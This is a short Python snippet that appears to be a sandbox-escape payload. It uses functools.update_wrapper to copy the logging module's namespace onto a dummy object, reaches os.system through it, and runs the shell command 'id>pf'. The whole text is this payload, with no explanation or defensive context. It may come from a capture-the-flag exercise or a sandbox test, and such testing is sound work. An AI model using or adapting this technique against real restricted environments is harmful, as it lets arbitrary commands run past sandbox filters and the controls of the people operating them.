import functools, logging
class C:
    pass
functools.update_wrapper(C(), logging, (), ("__dict__",)).os.system("id>pf")
